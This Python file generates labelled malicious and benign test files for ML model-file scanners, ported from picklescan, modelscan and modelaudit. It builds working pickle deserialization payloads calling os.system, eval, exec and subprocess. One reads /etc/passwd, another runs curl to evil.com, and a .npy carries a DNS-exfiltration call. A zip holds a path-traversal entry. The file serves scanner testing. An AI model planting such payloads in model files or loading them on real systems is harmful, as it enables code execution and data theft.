"""The peer scanners' test-time generators, ported: files their test suites WRITE at run time
(never committed in their repositories), rebuilt here byte-for-byte where the bytes are given
and opcode-for-opcode where the peer pickles a ``__reduce__``.

Sources (each function names its origin):
* mmaitre314/picklescan ``tests/init_data_files.py`` (the lone object-array .npy), MIT;
* protectai/modelscan ``tests/test_modelscan.py`` (fixtures ``file_path``, ``zip_file_path``,
  ``numpy_file_path``, ``keras_file_path``) and ``tests/test_utils.py`` (``PickleInject``),
  Apache-2.0;
* promptfoo/modelaudit ``tests/assets/generators/generate_security_assets.py``,
  ``generate_advanced_pickle_tests.py``, ``generate_evil_pickle.py``,
  ``generate_os_alias_tests.py``, MIT.

A callable is written as its pickle reference (module + qualified name, the way ``pickle``
records it: ``os.system`` is ``posix.system``), so nothing is imported to write a file and
nothing a file names is ever called. ``write_all(dir)`` returns ``{name: (path, label)}``,
label ``malicious`` (a framework loader runs a payload) or ``benign``.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any

import numpy as np


def _body(obj: Any, protocol: int) -> bytes:
    """The opcodes that push ``obj`` (no PROTO, FRAME or STOP)."""
    data = pickle.dumps(obj, protocol=protocol)
    if protocol >= 2:
        data = data[2:]
    if data[:1] == pickle.FRAME:
        data = data[9:]
    assert data[-1:] == pickle.STOP
    return data[:-1]


def _global(module: str, name: str, protocol: int) -> bytes:
    if protocol >= 4:
        m, n = module.encode(), name.encode()
        return (pickle.SHORT_BINUNICODE + bytes([len(m)]) + m
                + pickle.SHORT_BINUNICODE + bytes([len(n)]) + n + pickle.STACK_GLOBAL)
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def call(module: str, name: str, args: tuple[Any, ...], protocol: int = 4) -> bytes:
    """What ``pickle.dumps`` writes for an object whose ``__reduce__`` is ``(module.name, args)``
    (the args are pickled first with a fresh memo, as in the peers' files: our opcodes use no
    memo of their own)."""
    head = pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""
    return head + _global(module, name, protocol) + _body(args, protocol) + pickle.REDUCE + pickle.STOP


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


# ------------------------------------------------------------------ modelscan test_modelscan.py

def _m1(p: int) -> bytes:  # Malicious1: eval("print('456')")
    return call("builtins", "eval", ("print('456')",), p)


def _m2(p: int) -> bytes:  # Malicious2: os.system("ls -la")
    return call("posix", "system", ("ls -la",), p)


def _m4(p: int = 4) -> bytes:  # Malicious4: requests.get (defined in requests.api)
    return call("requests.api", "get", ("https://github.com",), p)


_MALICIOUS0 = (
    b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");'
    b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
    b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n"
    b"(g100\nS'picklesmashed'\nltRp104\n0g104\n."
)


def _stack_global_os_system(tail: bytes = b"") -> bytes:  # malicious11 / malicious14
    P = pickle
    return b"".join([
        P.UNICODE + b"os\n", P.PUT + b"2\n", P.POP, P.UNICODE + b"system\n", P.PUT + b"3\n", P.POP,
        P.UNICODE + b"torch\n", P.PUT + b"0\n", P.POP, P.UNICODE + b"LongStorage\n",
        P.PUT + b"1\n", P.POP, P.GET + b"2\n", P.GET + b"3\n", P.STACK_GLOBAL, P.MARK,
        P.UNICODE + b"cat flag.txt\n", P.TUPLE, P.REDUCE, P.STOP, tail,
    ])


def _malicious12() -> bytes:  # pickle.loads of an embedded os.system pickle
    P = pickle
    p2 = (P.PROTO + b"\x05" + P.GLOBAL + b"os\nsystem\n" + P.UNICODE + b"echo pwned!!!\n"
          + P.TUPLE1 + P.REDUCE + P.STOP)
    return (P.PROTO + b"\x05" + P.GLOBAL + b"pickle\nloads\n" + P.BINBYTES
            + len(p2).to_bytes(4, "little") + p2 + P.TUPLE1 + P.REDUCE + P.POP + P.NONE + P.STOP)


def _malicious13() -> bytes:  # a dotted name: builtins.eval.__call__
    P = pickle
    return (P.PROTO + b"\x05" + P.GLOBAL + b"builtins\neval.__call__\n"
            + P.UNICODE + b'__import__("os").system("echo pwned!!!")\n' + P.TUPLE1 + P.REDUCE + P.STOP)


def _bdb_run() -> bytes:  # Malicious15: bdb.Bdb.run(Bdb(), code) - an instance as first argument
    P = pickle
    bd = (_global("bdb", "Bdb", 4) + P.EMPTY_TUPLE + P.NEWOBJ
          + _body({"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None}, 4)
          + P.BUILD)
    code = b'import os\nos.system("whoami")'
    return (P.PROTO + b"\x04" + _global("bdb", "Bdb.run", 4) + bd
            + P.SHORT_BINUNICODE + bytes([len(code)]) + code + P.TUPLE2 + P.REDUCE + P.STOP)


def _inject(obj: Any, module: str, name: str, arg: str, protocol: int = 4) -> bytes:
    """test_utils.PickleInject: the injected call pickled before the user's object, both in one
    pickle (a framing the pickle module itself would write)."""
    inj = _global(module, name, protocol) + _body((arg,), protocol) + pickle.REDUCE
    return pickle.PROTO + bytes([protocol]) + inj + _body(obj, protocol) + pickle.STOP


def modelscan(d: Path) -> dict[str, tuple[Path, str]]:
    files: dict[str, tuple[bytes, str]] = {}
    for v in (0, 3, 4):
        files[f"benign0_v{v}.pkl"] = (pickle.dumps(["a", "b", "c"], protocol=v), "benign")
        files[f"malicious1_v{v}.pkl"] = (_m1(v), "malicious")
        files[f"malicious2_v{v}.pkl"] = (_m2(v), "malicious")
        # dill writes plain pickle opcodes for these objects
        files[f"benign0_v{v}.dill"] = (pickle.dumps(["a", "b", "c"], protocol=v), "benign")
        files[f"malicious1_v{v}.dill"] = (_m1(v), "malicious")
    files["malicious0.pkl"] = (_MALICIOUS0, "malicious")
    files["malicious3.pkl"] = (call("http.client", "HTTPSConnection", ("github.com",), 0), "malicious")
    files["malicious4.pickle"] = (_m4(), "malicious")
    files["malicious5.pickle"] = (call("aiohttp.client", "ClientSession", (), 4), "malicious")
    files["malicious6.pkl"] = (pickle.dumps(["a", "b", "c"]) + _m4(), "malicious")
    files["malicious7.pkl"] = (call("socket", "create_connection", (("github.com", 80),)), "malicious")
    files["malicious8.pkl"] = (call("subprocess", "run", (["ls", "-l"],)), "malicious")
    files["malicious9.pkl"] = (call("sys", "exit", (0,)), "malicious")
    files["malicious10.pkl"] = (b"(S'print(\"Injection running\")'\ni__builtin__\nexec\n.", "malicious")
    files["malicious11.pkl"] = (_stack_global_os_system(), "malicious")
    files["malicious12.pkl"] = (_malicious12(), "malicious")
    files["malicious13.pkl"] = (_malicious13(), "malicious")
    files["malicious14.pkl"] = (_stack_global_os_system(b"\n\n\t\t"), "malicious")
    files["malicious15.pkl"] = (_bdb_run(), "malicious")
    files["malicious1.zip"] = (_zip([("data.pkl", _m1(4))]), "malicious")
    # numpy_file_path: a safe .npy, and a pickle (np.load(allow_pickle=True) unpickles any file
    # without the .npy magic) with exec injected before the array
    buf = io.BytesIO()
    np.save(buf, np.array([[1, 2, 3], [4, 5, 6]]))
    files["safe_numpy.npy"] = (buf.getvalue(), "benign")
    files["unsafe_numpy.npy"] = (
        _inject([[1, 2, 3], [4, 5, 6]], "builtins", "exec", 'print("Malicious code!")'), "malicious")
    out = {}
    for name, (data, label) in files.items():
        (d / name).write_bytes(data)
        out[f"modelscan/{name}"] = (d / name, label)
    return out


# ------------------------------------------------------------- ModelAudit asset generators

def modelaudit(d: Path) -> dict[str, tuple[Path, str]]:
    files: dict[str, tuple[bytes, str]] = {}
    # generate_security_assets.py
    files["malicious_system_call.pkl"] = (call("posix", "system", (
        "echo 'security test - malicious system call'",), pickle.DEFAULT_PROTOCOL), "malicious")
    files["safe_data.pkl"] = (pickle.dumps({"safe": True, "data": [1, 2, 3]}), "benign")
    files["malicious_eval.pt"] = (_zip([("version", b"3"), ("data.pkl", call(
        "builtins", "eval", ("print('security test - eval')",), pickle.DEFAULT_PROTOCOL))]), "malicious")
    files["path_traversal.zip"] = (_zip([("../../../etc/evil.txt", b"malicious content"), (
        "model/malicious.pkl", call("posix", "system", ("echo 'security test - archive payload'",),
                                    pickle.DEFAULT_PROTOCOL))]), "malicious")
    files["model.pkl"] = (call("builtins", "eval", ("__import__('os').system('curl http://evil.com')",),
                               pickle.DEFAULT_PROTOCOL), "malicious")
    # generate_advanced_pickle_tests.py
    files["stack_global_attack.pkl"] = (call("posix", "system", ("# STACK_GLOBAL_PAYLOAD",), 5), "malicious")
    files["memo_attack.pkl"] = (call("subprocess", "call", (["#", "MEMO_ATTACK_PAYLOAD"],), 5), "malicious")
    files["multiple_stream_attack.pkl"] = (
        pickle.dumps({"model": "safe_weights"}, protocol=5)
        + call("builtins", "eval", ("'HIDDEN_ATTACK_PAYLOAD'",), 5), "malicious")
    # generate_evil_pickle.py
    files["evil.pkl"] = (call("posix", "system", ("# MALICIOUS_PAYLOAD_PLACEHOLDER",), 5), "malicious")
    # generate_os_alias_tests.py: the bare function object (loading imports and returns it;
    # any later call runs the shell) under its Windows and POSIX module names
    for mod in ("nt", "posix"):
        files[f"{mod}_alias_attack.pkl"] = (
            pickle.PROTO + bytes([pickle.DEFAULT_PROTOCOL]) + _global(mod, "system", pickle.DEFAULT_PROTOCOL)
            + pickle.STOP, "malicious")
    out = {}
    for name, (data, label) in files.items():
        (d / name).write_bytes(data)
        out[f"modelaudit/{name}"] = (d / name, label)
    # generate_security_assets.py: Keras .h5 files holding only a model_config attribute
    try:
        import h5py
    except ImportError:
        return out
    for name, layers, label in (
        ("safe_model.h5", [{"class_name": "Dense", "config": {"units": 10}}], "benign"),
        ("malicious_lambda.h5", [{"class_name": "Lambda", "config": {
            "function": "lambda x: eval('print(\"security test\")')"}}], "malicious"),
    ):
        cfg = {"class_name": "Sequential", "config": {"name": name[:-3], "layers": layers}}
        with h5py.File(d / name, "w") as f:
            f.attrs["model_config"] = json.dumps(cfg)
        out[f"modelaudit/{name}"] = (d / name, label)
    return out


# --------------------------------------------------------- picklescan tests/init_data_files.py

def picklescan(d: Path) -> dict[str, tuple[Path, str]]:
    """``initialize_numpy_files``: a lone object-array .npy whose element reduces to
    ``ssl.get_server_certificate`` (np.load(allow_pickle=True) resolves a DNS name built from
    /etc/passwd). Here the payload is the object list itself, not wrapped in an ndarray
    reconstruction: np.load unpickles either the same way."""
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += " " * (63 - (10 + len(hdr)) % 64) + "\n"
    payload = (pickle.PROTO + b"\x03" + pickle.MARK
               + call("ssl", "get_server_certificate", (("root_x_0.dns-logger.invalid", 443),), 3)[2:-1]
               + pickle.LIST + pickle.STOP)
    path = d / "dns_exfiltration.npy"
    path.write_bytes(b"\x93NUMPY\x01\x00" + len(hdr).to_bytes(2, "little") + hdr.encode() + payload)
    buf = io.BytesIO()
    np.save(buf, np.array([0, 1, 2]))
    (d / "int_array.npy").write_bytes(buf.getvalue())
    return {"picklescan/dns_exfiltration.npy": (path, "malicious"),
            "picklescan/int_array.npy": (d / "int_array.npy", "benign")}


def write_all(d: Path) -> dict[str, tuple[Path, str]]:
    (d / "modelscan").mkdir(parents=True, exist_ok=True)
    (d / "modelaudit").mkdir(parents=True, exist_ok=True)
    (d / "picklescan").mkdir(parents=True, exist_ok=True)
    return {**modelscan(d / "modelscan"), **modelaudit(d / "modelaudit"),
            **picklescan(d / "picklescan")}


if __name__ == "__main__":
    import sys

    for key, (path, label) in write_all(Path(sys.argv[1])).items():
        print(label, key, path)
